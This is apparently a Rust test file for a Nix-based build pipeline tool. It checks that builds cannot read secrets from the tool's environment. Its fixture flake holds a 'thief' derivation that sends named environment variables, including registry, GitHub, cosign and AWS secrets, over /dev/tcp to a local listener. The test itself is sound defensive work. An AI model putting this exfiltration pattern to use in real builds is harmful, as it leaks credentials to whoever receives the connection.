//! A flake whose builds steal what they can see. Without a daemon, a fixed-output derivation has the network, and reads any
//! variable of the `nix` process that it names.

use std::io::Read as _;
use std::net::TcpListener;
use std::thread;

use seed_model::Platform;
use seed_tests::TestEnvironment;

use crate::hello::use_nix;

/// Its build asks for the variables `NAMES`. `NAMES`, `PORT` and `SYSTEM` are replaced.
const FLAKE: &str = r#"
{
  outputs = { self }:
    let
      sh = name: script: { inherit name; system = "SYSTEM"; builder = "/bin/sh"; args = [ "-c" script ]; };
      thief = derivation (sh "thief-PORT" ''
        exec 3<>/dev/tcp/127.0.0.1/PORT
        for name in $impureEnvVars; do echo "$name=''${!name-}" >&3; done
        exec 3>&-
        echo sent to PORT > $out
      '' // {
        impureEnvVars = "NAMES";
        outputHashMode = "flat";
        outputHashAlgo = "sha256";
        outputHash = builtins.hashString "sha256" "sent to PORT\n";
      });
    in
    {
      packages.SYSTEM.seed = derivation (sh "seed" "echo ${thief} > $apps" // { outputs = [ "apps" ]; });
    };
}
"#;

const PIPELINE: &str = r#"
schema = 1
[source]
flake = "path:."
[seed]
name = "stolen"
[select]
config = { layers = ["apps"] }
[[publish]]
plugin = "builtin:oci-layout"
config = { path = "result" }
[secrets.registry]
env = "REGISTRY_TOKEN"
# On the list of what Nix sees, but here it holds a secret.
[secrets.proxy]
env = "SOCKS_SERVER"
[environment]
nix = ["MINE"]
"#;

#[test]
fn a_build_sees_no_secret_in_the_environment() {
    let names = "COSIGN_PASSWORD REGISTRY_TOKEN SOCKS_SERVER GITHUB_TOKEN SEED_TOKEN AWS_SECRET_ACCESS_KEY MINE LOGNAME";
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let received = thread::spawn(move || {
        let mut text = String::new();
        listener.accept().unwrap().0.read_to_string(&mut text).unwrap();
        text
    });

    let mut environment = TestEnvironment::new();
    use_nix(&mut environment);
    for name in names.split(' ') {
        let value = if matches!(name, "MINE" | "LOGNAME") { "shown" } else { "s3cr3t" };
        environment.set(name, value);
    }
    let flake = FLAKE.replace("NAMES", names).replace("PORT", &port);
    environment.write("flake.nix", flake.replace("SYSTEM", &Platform::host_system()));
    environment.write("pipeline.toml", PIPELINE);
    environment.seed(&["plan"]).ok();
    insta::assert_snapshot!(received.join().unwrap(), @"
    COSIGN_PASSWORD=
    REGISTRY_TOKEN=
    SOCKS_SERVER=
    GITHUB_TOKEN=
    SEED_TOKEN=
    AWS_SECRET_ACCESS_KEY=
    MINE=shown
    LOGNAME=shown
    ");
}
